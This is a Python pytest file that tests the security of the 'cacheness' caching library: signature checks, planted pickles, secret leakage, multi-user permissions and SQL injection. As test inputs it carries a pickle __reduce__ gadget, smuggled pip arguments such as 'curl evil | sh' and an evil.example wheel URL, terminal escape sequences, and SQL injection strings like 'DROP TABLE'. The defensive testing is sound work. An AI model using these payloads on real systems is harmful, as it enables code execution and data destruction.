"""Who writes anything into a cache, at any moment, but has no key, has nothing of it believed."""

import json
import os
import pickle
import shutil
import subprocess
import sys
import tempfile
import threading
import warnings
from contextlib import suppress
from pathlib import Path

import numpy as np
import pytest
from tests.core.security.hostile import blobs_of, change, environment, everything, plant

from cacheness import (
    CacheConfig,
    CachenessWarning,
    PluginNotInstalledError,
    SecurityWarning,
    SerializationError,
    UnifiedCache,
    cached,
    configure,
)
from cacheness.defaults import default_cache

KEY = "the signing key of these tests"
RAN = []


def run():
    """What no payload ever has done; by name, since a list would be pickled with its method."""
    RAN.append(1)


class Bomb:
    """Tells when it is unpickled."""

    def __reduce__(self):
        return run, ()


class Staged:
    """What a handler of a file of its own keeps."""


@pytest.fixture(autouse=True)
def nothing_ran(tmp_path, monkeypatch):
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    RAN.clear()
    yield
    assert RAN == []


@pytest.fixture
def directory(tmp_path):
    return tmp_path / "cache"


# --- a value that was not put under that key ----------------------------------------------------


VALUES = {
    "json": {"a": 1},
    "numpy": np.arange(10),
    "blob": np.arange(20_000),
    "bytes": b"x",
    "container": {"a": np.zeros(3)},
    "pickle": {1, 2},
}


@pytest.mark.parametrize("kind", VALUES)
def test_with_all_signed_no_value_is_believed_under_another_key(directory, kind):
    with UnifiedCache(directory, signing="all", signing_key=KEY) as cache:
        cache.put(VALUES[kind], "theirs")
        cache.put("mine", "mine")
        change(directory, "DELETE FROM entries WHERE cache_key = 'mine'")
        change(directory, "UPDATE entries SET cache_key = 'mine'")

        with pytest.warns(SecurityWarning, match="does not hold"):
            assert cache.get("mine") is None


@pytest.mark.parametrize("kind", VALUES)
def test_with_all_signed_no_entry_of_another_namespace_is_believed(directory, kind):
    with UnifiedCache(directory, signing="all", signing_key=KEY, namespace="a") as cache:
        cache.put(VALUES[kind], "k")
    change(directory, "UPDATE entries SET namespace = 'b'")

    with (
        UnifiedCache(directory, signing="all", signing_key=KEY, namespace="b") as cache,
        pytest.warns(SecurityWarning, match="does not hold"),
    ):
        assert cache.get("k") is None


def test_with_all_signed_what_is_planted_is_not_read_in_any_way(directory, tmp_path):
    with UnifiedCache(directory, signing="all", signing_key=KEY) as cache:
        cache.put({"a": 1}, "k")
        plant(directory, b'{"a":2}', "json")
        with warnings.catch_warnings():
            warnings.simplefilter("ignore")
            assert cache.get("k") is None
            assert cache.get("k", mmap=True) is None
            assert cache.open("k") is None
            assert cache.pop("k") is None
            assert cache.get_with_metadata("k") == (None, None)
            assert cache.get_batch(["k"]) == [None]
            assert cache.get_or_compute(lambda: "computed", "k") == "computed"


def test_a_signature_by_a_weak_checksum_is_none(directory):
    """blake3 is what a signature rests on: one over a checksum that can be forged is refused."""
    from cacheness.payloads.signing import Signer, message_of

    with UnifiedCache(directory, signing_key=KEY) as cache:
        cache.put({1}, "k")
        payload = pickle.dumps(Bomb())
        plant(directory, payload, "pickle")
        entry = cache.get_entry("k")
        signature = Signer(cache.config, shared=False).sign(message_of(entry))
        change(directory, "UPDATE entries SET signature = ?", signature)

        with pytest.warns(SecurityWarning, match="does not hold"):
            assert cache.get("k") is None


# --- a planted entry is never signed ------------------------------------------------------------


def test_no_way_of_moving_entries_signs_what_was_planted(directory, tmp_path):
    payload = pickle.dumps(Bomb())
    with (
        UnifiedCache(directory, signing_key=KEY) as cache,
        UnifiedCache(tmp_path / "other", signing_key="another key of these tests") as other,
        warnings.catch_warnings(),
    ):
        warnings.simplefilter("ignore")
        cache.put({1}, "k")
        plant(directory, payload, "pickle")

        cache.verify_integrity(repair=True)
        assert cache.get_entry("k").signature is None
        cache.update_entry("k", description="x")
        cache.touch("k")
        assert cache.get_entry("k").signature is None
        cache.copy_to(other)
        cache.export(tmp_path / "out.tar")
        other.import_(tmp_path / "out.tar")
        for one in (cache, other):
            assert one.get("k") is None
            found = one.get_entry("k")
            assert found is None or found.signature is None


def test_adopting_signs_nothing_that_was_planted(directory):
    with UnifiedCache(directory, signing_key=KEY) as cache:

        @cached(cache=cache)
        def function(x):
            return {x}

        function(1)
        key = function.cache_key(1)
        plant(directory, pickle.dumps(Bomb()), "pickle", cache_key=key)
        with warnings.catch_warnings():
            warnings.simplefilter("ignore")
            function.cache_adopt()
            assert function(1) == {1}


def test_a_file_that_is_swapped_before_it_is_checksummed_is_not_signed(directory):
    """A handler that writes a file does so where nobody else can, if that will be signed."""
    from cacheness import Handler, register_handler, unregister_handler

    seen = []

    class StagedHandler(Handler):
        def can_handle(self, obj):
            return isinstance(obj, Staged)

        def put(self, obj, file_path):
            with open(file_path, "wb") as file:
                file.write(b"x" * 100_000)
            seen.append(os.path.realpath(file_path))
            return {}

        def get(self, file_path):
            return "read"

    register_handler(priority=100)(StagedHandler)
    try:
        with UnifiedCache(directory, signing_key=KEY) as cache:
            cache.put(Staged(), "k")
            cache.put({"a": Staged(), "b": np.zeros(9)}, "part")
            assert cache["k"] == cache["part"]["a"] == "read"
    finally:
        unregister_handler("staged")
    assert len(seen) >= 2
    for path in seen:
        assert not path.startswith(os.path.realpath(directory))
        assert os.stat(os.path.dirname(path)).st_mode & 0o077 == 0


# --- a file between its check and its reading -----------------------------------------------------


@pytest.mark.slow
@pytest.mark.parametrize("way", ["get", "mmap", "open"])
def test_a_blob_that_is_swapped_all_the_time_is_never_read_unverified(directory, way):
    """What is decoded are the very bytes that were verified."""
    good = ("good", "x" * 100_000)
    evil = pickle.dumps(Bomb()).ljust(len(pickle.dumps(good, 5)), b".")
    with UnifiedCache(directory, signing_key=KEY) as cache:
        cache.put(good, "k", handler="pickle", compressor="none")
        (path,) = blobs_of(directory)
        content, stop = path.read_bytes(), threading.Event()
        assert len(evil) == len(content)

        def swap():
            new = path.with_name("new")
            while not stop.is_set():
                for some in (evil, content):
                    new.write_bytes(some)
                    os.replace(new, path)  # another file
                with suppress(FileNotFoundError), open(path, "r+b") as file:
                    file.write(evil)  # the same file, while it may be read
                    file.seek(0)
                    file.write(content)

        swapper = threading.Thread(target=swap)
        record = cache.get_entry("k")
        outcomes = set()
        swapper.start()
        try:
            with warnings.catch_warnings():
                warnings.simplefilter("ignore")
                for _ in range(400):
                    found = {
                        "get": lambda: cache.get("k"),
                        "mmap": lambda: cache.get("k", mmap=True),
                        "open": lambda: cache.open("k"),
                    }[way]()
                    outcomes.add(found is not None)
                    assert found is None or found == good
                    if found is None:
                        os.makedirs(path.parent, exist_ok=True)
                        cache.engine.backend.put_entry(record)
        finally:
            stop.set()
            swapper.join()
    assert True in outcomes


# --- names in entries ---------------------------------------------------------------------------


def test_a_module_that_an_entry_names_is_not_imported(directory, tmp_path, monkeypatch):
    (tmp_path / "trap.py").write_text(f"open({str(tmp_path / 'sprung')!r}, 'w')")
    monkeypatch.syspath_prepend(tmp_path)
    manifest = {
        "nodes": [{"class": "trap:Trap", "fields": [], "namedtuple": []}],
        "root": ["node", 0],
    }
    with UnifiedCache(directory, signing_key=KEY) as cache, warnings.catch_warnings():
        warnings.simplefilter("ignore")
        for handler, payload, metadata in (
            ("container", json.dumps(manifest).encode(), None),
            ("trap:Handler", b"x", None),
            ("trap", b"x", None),
            ("pickle", b"ctrap\nTrap\n.", None),
            ("json", b"[]", {"compressor": "trap:Codec"}),
        ):
            cache.put({"a": 1}, "k")
            plant(directory, payload, handler, metadata=metadata, distribution="trap")
            try:
                assert cache.get("k") in (None, [])
            except PluginNotInstalledError:
                continue
        for compressor in ("trap:Codec", "trap", "os:system"):
            cache.put({"a": 1}, "k")
            plant(directory, b"[]", "json", compressor=compressor)
            with pytest.raises(PluginNotInstalledError):
                cache.get("k")
    assert "trap" not in sys.modules
    assert not (tmp_path / "sprung").exists()


@pytest.mark.parametrize(
    "distribution",
    [
        "evil",
        "cacheness-pandas evil",
        "cacheness-pandas; curl evil | sh",
        "--upgrade --target=/ evil",
        "https://evil.example/x.whl",
        "cacheness-pandas\nevil",
        "cacheness_pandas",
        "cacheness-p\u0430ndas",
        "\x1b[2Jcacheness-pandas",
    ],
)
def test_no_word_of_an_unsigned_entry_gets_into_the_pip_line(directory, distribution):
    with UnifiedCache(directory, signing_key=KEY) as cache:
        cache.put({"a": 1}, "k")
        plant(directory, b"x", "absent", distribution=distribution, signature="0" * 16 + ":00")
        with pytest.raises(PluginNotInstalledError) as caught:
            cache.get("k")
    assert "pip install" not in str(caught.value)
    assert distribution not in str(caught.value)
    assert "\x1b" not in str(caught.value)


def test_a_handlers_name_is_told_without_its_control_characters(directory):
    with UnifiedCache(directory, signing_key=KEY) as cache:
        cache.put({"a": 1}, "k")
        plant(directory, b"x", "x\x1b]0;evil\x07\npip install evil")
        with pytest.raises(PluginNotInstalledError) as caught:
            cache.get("k")
    assert caught.value.args[0].isprintable()


# --- keys and secrets ----------------------------------------------------------------------------


def test_an_old_key_is_believed_and_signs_nothing(directory):
    with UnifiedCache(directory, signing_key="first key, 16 bytes") as cache:
        cache.put({1}, "k")
        first = cache.get_entry("k").signature.partition(":")[0]
    with UnifiedCache(
        directory, signing_key="second key, 16 bytes", old_signing_keys=["first key, 16 bytes"]
    ) as cache:
        assert cache["k"] == {1}
        assert cache.get_entry("k").signature.partition(":")[0] == first, "a read signs nothing"
        cache.put({2}, "k")
        second = cache.get_entry("k").signature.partition(":")[0]
    assert first != second
    assert "first" not in first
    with UnifiedCache(directory, signing_key="first key, 16 bytes") as cache:
        with pytest.warns(SecurityWarning, match="you don't hold"):
            assert cache.get("k") is None
        assert cache.exists("k"), "it is the other's"


SECRETS = ("a very secret signing key", "an old and secret signing key", "hunter2-the-parameter")


def test_no_secret_is_in_any_file_log_repr_or_error(directory, tmp_path, caplog):
    import logging

    signing, old, parameter = SECRETS
    told = []
    caplog.set_level(logging.DEBUG)
    with (
        UnifiedCache(directory, signing_key=signing, old_signing_keys=[old]) as cache,
        warnings.catch_warnings(record=True) as warned,
    ):
        warnings.simplefilter("always")

        @cached(cache=cache, secret=("password",))
        def login(user, password):
            return {user}

        login("me", parameter)
        login("me", password=parameter)
        key = cache.put({1}, user="me", password=parameter, secret=["password"])
        cache.put_batch([({1}, {"a": 1})])
        told += [repr(cache), repr(cache.config), str(cache.stats()), cache._repr_html_()]
        told += [repr(entry) for entry in cache.entries()]
        told.append(str(login.cache_explain("me", parameter)))
        told.append(str(login.cache_explain("you", parameter)))
        told.append(repr(login.cache_ref("you", "x")))
        change(directory, "UPDATE entries SET signature = '0123456789abcdef:00'")
        cache.get(key)
        login("me", parameter)
        for value in (cache, cache.config, [cache], {"cache": cache, "array": np.zeros(9)}):
            with pytest.raises(SerializationError, match="signing_key") as caught:
                cache.put(value, "cache")
            told.append(str(caught.value))
        change(directory, "UPDATE entries SET signature = replace(signature, ':', ':00')")
        cache.get(key)
        cache.verify_integrity(repair=True)
        cache.export(directory / "export.tar")
        told += [str(warning.message) for warning in warned]
    told.append(caplog.text)

    stored = everything(tmp_path)
    for secret in SECRETS:
        assert secret not in "".join(told)
        assert secret.encode() not in stored
        assert secret.encode().hex().encode() not in stored


@cached(secret=("password",))
def logged_in(user, password):
    return {user}


def test_a_ref_with_a_secret_argument_lies_in_no_cache_and_travels(directory, tmp_path):
    configure(directory)
    ref = logged_in.cache_ref("me", SECRETS[2])
    travelled = pickle.loads(pickle.dumps(ref))
    with default_cache() as cache:
        for value in (ref, [ref], {"a": travelled}):
            with pytest.raises(SerializationError, match="its secret= arguments") as caught:
                cache.put(value, "k")
            assert SECRETS[2] not in str(caught.value)

    configure(tmp_path / "nowhere")
    assert SECRETS[2].encode() not in everything(directory)
    assert travelled.cache_key == ref.cache_key
    assert SECRETS[2] in travelled._source.call()[1]


def test_a_cache_still_travels_to_worker_processes_with_its_key(directory):
    with UnifiedCache(directory, signing_key=KEY) as cache:
        cache.put({1}, "k")
        with pickle.loads(pickle.dumps(cache)) as again:
            assert again["k"] == {1}
    assert pickle.loads(pickle.dumps(CacheConfig(signing_key=KEY))).signing_key == KEY.encode()


BECOME = """
import importlib, os, pkgutil
import blosc2, cacheness, numpy, orjson, platformdirs.unix, sqlalchemy, tarfile, xxhash
for found in pkgutil.walk_packages(cacheness.__path__, "cacheness."):
    if ".testing" not in found.name and ".cli" not in found.name:
        importlib.import_module(found.name)
import tempfile
with tempfile.TemporaryDirectory() as once:
    for backend in ("sqlite", "json"):
        options = {{"metadata_backend": backend, "signing_key": b"a key for once only"}}
        with cacheness.UnifiedCache(once + "/" + backend, **options) as warm:
            warm.put({{1}}, "k")
            warm.put(numpy.arange(50_000), "array")
            warm.get_or_compute(lambda: 1, "computed")
            warm.verify_integrity(repair=True)
os.setgroups([])
os.setgid({gid})
os.setuid({uid})
os.umask(0o077)
tempfile.tempdir = None
"""


def as_user(script, tmp_path, uid, gid, **environ):
    """Run a script as another user; give what it printed.

    Everything is imported before, since another user may not read where this Python is.
    """
    done = subprocess.run(
        [sys.executable, "-c", BECOME.format(uid=uid, gid=gid) + script],
        env={**environment(tmp_path / f"home{uid}"), **environ},
        capture_output=True,
        text=True,
        timeout=60,
        cwd="/",
        check=False,
    )
    assert done.returncode == 0, done.stderr
    return done.stdout


needs_root = pytest.mark.skipif(
    not hasattr(os, "geteuid") or os.geteuid() != 0, reason="only root can be two users"
)


@pytest.fixture
def common_place():
    """A directory that others can walk through; pytest closes its own to them at each start."""
    directory = Path(tempfile.mkdtemp(prefix="cacheness-test-"))
    directory.chmod(0o711)
    yield directory
    shutil.rmtree(directory)


@pytest.mark.slow
@needs_root
@pytest.mark.parametrize("backend", ["sqlite", "json"])
def test_two_users_of_a_group_share_a_directory(common_place, backend):
    shared, common = common_place / "shared", 61000
    shared.mkdir()
    shutil.chown(shared, 61001, common)
    shared.chmod(0o2770)
    for uid in (61001, 61002):
        (common_place / f"home{uid}").mkdir()
        shutil.chown(common_place / f"home{uid}", uid)
    script = f"""
import sys
import numpy as np
from cacheness import UnifiedCache
me, other = {{me!r}}, {{other!r}}
with UnifiedCache({str(shared / "cache")!r}, metadata_backend={backend!r}, permissions="group",
                  signing_key={KEY!r}) as cache:
    assert cache.get(other, default=[0])[0] == {{seen!r}}, cache.get(other)
    for name in (me, "common"):
        cache.put(np.full(20_000, ord(me)), name)
    cache.put({{{{ord(me)}}}}, me + "set")
    cache.get_or_compute(lambda: 1, me + "computed")
    assert cache["common"][0] == ord(me)
    if {{seen!r}}:
        assert cache[other + "set"] == {{{{ord(other)}}}}
        assert cache.invalidate(other + "set")
        assert cache.verify_integrity(repair=True).ok
"""
    as_user(script.format(me="a", other="b", seen=0), common_place, 61001, common)
    as_user(script.format(me="b", other="a", seen=ord("a")), common_place, 61002, common)
    as_user(script.format(me="a", other="b", seen=ord("b")), common_place, 61001, common)

    for path in [shared / "cache", *(shared / "cache").rglob("*")]:
        assert path.lstat().st_gid == common, path
        assert path.lstat().st_mode & 0o007 == 0, path
    outsider = f"""
from cacheness import UnifiedCache, ConfigError
try:
    UnifiedCache({str(shared / "cache")!r}, metadata_backend={backend!r})
except ConfigError as error:
    print("refused")
"""
    (common_place / "home61003").mkdir()
    shutil.chown(common_place / "home61003", 61003)
    assert as_user(outsider, common_place, 61003, 61003) == "refused\n"


@pytest.mark.slow
@needs_root
def test_the_directory_of_another_user_is_used_only_where_it_is_named(common_place):
    """Their pickles are left alone and unread."""
    place = common_place / "work"
    (place / ".cacheness").mkdir(parents=True)
    for uid in (61001, 61002):
        (common_place / f"home{uid}").mkdir()
        shutil.chown(common_place / f"home{uid}", uid)
    shutil.chown(place / ".cacheness", 61001)
    as_user(
        "from cacheness import UnifiedCache\n"
        f"with UnifiedCache({str(place / '.cacheness')!r}) as cache: cache.put({{1}}, 'k')",
        common_place,
        61001,
        61001,
    )
    for path in [place / ".cacheness", *(place / ".cacheness").rglob("*")]:
        path.chmod(0o777 if path.is_dir() else 0o666)
    said = as_user(
        f"""
import os, warnings
from cacheness import ConfigError, SecurityWarning, UnifiedCache
os.chdir({str(place)!r})
try:
    UnifiedCache()
except ConfigError as error:
    print("belongs to another user" in str(error))
with warnings.catch_warnings(record=True) as said, UnifiedCache(".cacheness") as cache:
    warnings.simplefilter("always")
    print(cache.get("k"), cache.exists("k"), said[0].category is SecurityWarning)
""",
        common_place,
        61002,
        61002,
    )
    assert said == "True\nNone True True\n"


@pytest.mark.slow
@needs_root
def test_a_home_that_can_not_be_written_and_a_key_of_another_user_are_no_keys(common_place):
    home = common_place / "home61001"
    home.mkdir()  # root's
    place = common_place / "place"
    place.mkdir()
    shutil.chown(place, 61001)
    script = f"""
import warnings
from cacheness import SecurityWarning, UnifiedCache
with warnings.catch_warnings(record=True) as said, UnifiedCache({str(place / "cache")!r}) as cache:
    warnings.simplefilter("always")
    cache.put({{1}}, "k")
    cache.put({{2}}, "k")
    print(cache.exists("k"), len(said), str(said[0].message))
    cache.put([1], "k")
    print(cache["k"])
"""
    said = as_user(script, common_place, 61001, 61001)
    assert said.startswith("False 1 there is no signing key: ")
    assert said.endswith("[1]\n")

    folder = home / ".local" / "share" / "cacheness"
    folder.mkdir(parents=True)
    (folder / "signing.key").write_text("00" * 32)
    (folder / "signing.key").chmod(0o644)
    assert "belongs to another user" in as_user(script, common_place, 61001, 61001)


# --- SQL -----------------------------------------------------------------------------------------


HOSTILE_NAMES = [
    "a'; DROP TABLE entries; --",
    'a"; DROP TABLE entries; --',
    "a') OR 1=1 --",
    "$.a",
    'a"b',
    "a.b[0]",
    "a\\",
    "\N{BELL}",
    "%",
    "_",
    "a b",
    "",
]


@pytest.mark.slow
@pytest.mark.parametrize("backend", ["sqlite", "json", "memory"])
@pytest.mark.parametrize("name", HOSTILE_NAMES)
def test_a_parameters_name_and_value_are_never_part_of_a_statement(directory, backend, name):
    with UnifiedCache(directory, metadata_backend=backend, namespace=name) as cache:
        key = cache.put(
            1, params={name: name, "n": 1}, prefix=name, tags=[name], custom_metadata={name: name}
        )
        cache.put(2, params={"n": 2}, prefix="other", tags=["other"], custom_metadata={"x": "y"})
        explicit = cache.put(3, name or "k")

        assert cache.get(params={name: name, "n": 1}, prefix=name) == 1
        assert cache.query_meta(params={name: name}) == [key]
        assert cache.query_meta(params={name: name + "'"}) == []
        assert key in cache.query_meta(prefix=name)
        assert [entry.cache_key for entry in cache.entries(tags__contains=name)] == [key]
        assert cache.query_meta(**{f"meta__{name}": name}) == [key] if name else True
        assert cache.delete_matching(params={name: name}) == 1
        assert cache.invalidate(explicit)
        assert len(cache) == 1
        assert cache.clear() == 1


@pytest.mark.parametrize(
    "field", ["inline) OR (1=1", "cache_key; DROP TABLE entries", "rowid", "__class__", "sqlite_x"]
)
def test_a_field_that_entries_do_not_have_is_refused(directory, field):
    with UnifiedCache(directory) as cache:
        cache.put(1, "k")
        with pytest.raises((TypeError, ValueError, CachenessWarning)):
            cache.delete_matching(**{f"entry__{field}": "x"})
        assert len(cache) == 1
